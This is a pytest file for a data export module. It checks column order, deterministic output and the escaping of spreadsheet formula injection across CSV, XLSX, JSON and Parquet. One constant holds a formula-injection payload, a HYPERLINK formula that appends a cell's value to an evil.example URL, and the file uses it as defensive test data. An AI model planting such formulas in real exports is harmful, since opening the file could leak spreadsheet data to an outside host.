"""Exports: everything is there, in a fixed order, and nothing in a cell can run."""

from __future__ import annotations

import io
import json
from dataclasses import replace

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ingest.export import FIGURE_COLUMNS, escaped, figures_table, read_csv, series_table, to_bytes
from ingest.model import Figure, RecordedFigure
from ingest.series import build_series, derive_daily
from ingest.workbooks import workbook
from tests.ingest.made import record

RISKY = ("=", "+", "-", "@", "\t", "\r")
COMMAND = '=HYPERLINK("https://evil.example?"&A1,"click")'


def with_texts(base: RecordedFigure, text: str) -> RecordedFigure:
    figure = replace(base.figure, attributed_to=text, origin=text, quote=text, number_text=text)
    return replace(base, figure=figure, article=replace(base.article, title=text, outlet=text, author=text))


@pytest.fixture
def records():
    return [
        record(90, "2023-09-28", attributed_to=None, attributed_kind=None, low=None, high=None),
        record(70, "2023-09-27T08:00+04:00", published="2023-09-27T09:30+04:00"),
        record(50, None, subgroup="children"),
    ]


def test_every_field_and_every_provenance_column_is_exported(records):
    fields = {name for name in Figure.__dataclass_fields__ if not name.endswith("_span")}
    assert fields <= set(FIGURE_COLUMNS)
    assert {
        "url", "canonical_url", "outlet", "title", "published", "fetched_at", "snapshot_path",
        "document_sha256", "source_id", "quote_start", "quote_end", "number_start", "number_end",
        "recorded_at", "run_id",
    } <= set(FIGURE_COLUMNS)  # fmt: skip
    first = read_csv(to_bytes(figures_table(records), "csv"))[0]
    of = records[1]
    assert first["value"] == "70"
    assert first["as_of"] == "2023-09-27T08:00+04:00"
    assert first["published"] == "2023-09-27T09:30+04:00"
    assert first["fetched_at"] == "2023-09-30T12:00:00Z"
    assert first["rules"] == "digits arrived"
    assert first["document_sha256"] == of.article.document_sha256
    start, end = int(first["number_start"]), int(first["number_end"])
    assert (
        of.figure.quote[start - int(first["quote_start"]) : end - int(first["quote_start"])]
        == first["number_text"]
        == "70"
    )


def test_rows_are_ordered_and_the_same_input_gives_the_same_bytes(records):
    assert figures_table(records)["value"].tolist() == [70, 90, 50]
    for kind in ("csv", "csv-excel", "xlsx", "json", "parquet"):
        assert to_bytes(figures_table(records), kind) == to_bytes(figures_table(records[::-1]), kind)


def test_missing_values_stay_missing(records):
    table = figures_table(records)
    row = read_csv(to_bytes(table, "csv"))[1]
    assert (row["low"], row["attributed_to"], row["subgroup"]) == (None, None, None)
    listed = json.loads(to_bytes(table, "json"))[1]
    assert (listed["low"], listed["attributed_to"], listed["value"]) == (None, None, 90)


def test_no_records_still_give_the_columns():
    assert list(figures_table([]).columns) == list(FIGURE_COLUMNS)
    assert to_bytes(figures_table([]), "csv").decode().count("\n") == 1
    assert json.loads(to_bytes(figures_table([]), "json")) == []


@pytest.mark.parametrize("start", [*RISKY, "\n", "＝", "  =", " \t@", "'"])
def test_a_cell_that_could_be_a_formula_is_escaped(records, start):
    text = f"{start}1+1"
    data = to_bytes(figures_table([with_texts(records[0], text)]), "csv")
    raw = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False).iloc[0]
    for column in ("attributed_to", "origin", "quote", "title", "outlet", "author", "number_text"):
        assert raw[column].startswith("'")
    assert read_csv(data)[0]["quote"] == text


def test_json_and_parquet_hold_the_text_as_it_is(records):
    table = figures_table([with_texts(records[0], COMMAND)])
    assert json.loads(to_bytes(table, "json"))[0]["title"] == COMMAND
    assert pd.read_parquet(io.BytesIO(to_bytes(table, "parquet")))["title"].tolist() == [COMMAND]


def sheet(data: bytes):
    """The cells of a workbook as its reader finds them, formulas told from texts."""
    return list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())


@pytest.mark.parametrize("start", [*RISKY, "", " =", "'"])
def test_no_cell_of_a_workbook_is_a_formula(records, start):
    text = f"{start}1+1"
    rows = sheet(to_bytes(figures_table([with_texts(records[0], text)]), "xlsx"))
    found = {head.value: cell for head, cell in zip(*rows, strict=True)}
    for column in ("attributed_to", "origin", "quote", "title", "outlet", "author", "number_text"):
        assert (found[column].value, found[column].data_type) == (text, "s")
    assert (found["value"].value, found["value"].data_type) == (records[0].figure.value, "n")
    assert found["subgroup"].value is None


def test_a_workbook_holds_what_no_xml_file_can_and_the_whole_table(records):
    rows = sheet(to_bytes(figures_table([with_texts(records[0], "a\x00b\x1fc\ufffed")]), "xlsx"))
    assert {head.value: cell.value for head, cell in zip(*rows, strict=True)}["title"] == "a\ufffdb\ufffdc\ufffdd"
    everything = sheet(to_bytes(figures_table(records), "xlsx"))
    assert [cell.value for cell in everything[0]] == list(FIGURE_COLUMNS)
    assert [row[3].value for row in everything[1:]] == [70, 90, 50]
    with pytest.raises(ValueError, match="no more than 1,048,575 rows"):
        workbook("x", ["n"], [(1,)] * 1_048_576)


def test_numbers_are_not_escaped_and_whole_ones_have_no_point(records):
    halved = replace(records[0], figure=replace(records[0].figure, value=12.5, low=10.0))
    row = read_csv(to_bytes(figures_table([halved]), "csv"))[0]
    assert (row["value"], row["low"]) == ("12.5", "10")


def test_excel_is_told_that_it_is_unicode(records):
    data = to_bytes(figures_table(records), "csv-excel")
    assert data.startswith(b"\xef\xbb\xbf")
    assert read_csv(data) == read_csv(to_bytes(figures_table(records), "csv"))


def test_a_series_carries_the_provenance_of_its_figures(records):
    series = build_series(records, zone="Asia/Yerevan", term="arrived", counting="cumulative", unit="people")
    table = series_table(series, records)
    assert list(table.columns[: len(series.columns)]) == list(series.columns)
    assert set(FIGURE_COLUMNS) <= set(table.columns)
    rows = json.loads(to_bytes(table, "json"))
    assert [row["quote"] for row in rows] == [records[1].figure.quote, records[0].figure.quote]
    assert rows[0]["at"] == "2023-09-27T04:00:00Z"
    assert rows[0]["figure_ids"] == [records[1].figure.figure_id]
    assert read_csv(to_bytes(table, "csv"))[0]["figure_ids"] == records[1].figure.figure_id
    assert pd.read_parquet(io.BytesIO(to_bytes(table, "parquet")))["value"].tolist() == [70, 90]
    daily = derive_daily(series, zone="Asia/Yerevan")
    assert json.loads(to_bytes(daily, "json"))[0] | {"from_figure": "", "to_figure": ""} == {
        "day": "2023-09-28", "new": 20, "basis": "reported", "from_figure": "", "to_figure": "",
    }  # fmt: skip


texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=30)
lead = st.sampled_from(["", *RISKY, "'", "\n", " "])


@settings(deadline=None, max_examples=150)
@given(start=lead, rest=texts)
def test_whatever_the_text_it_comes_back_and_never_runs(start, rest):
    text = start + rest
    one = with_texts(record(1, "2023-09-28"), text)
    table = figures_table([one])
    data = to_bytes(table, "csv")
    [row] = read_csv(data)
    assert row["quote"] == row["title"] == row["attributed_to"] == text
    assert not escaped(text).startswith(RISKY)
    assert json.loads(to_bytes(table, "json"))[0]["quote"] == text
    assert pd.read_parquet(io.BytesIO(to_bytes(table, "parquet")))["quote"].tolist() == [text]
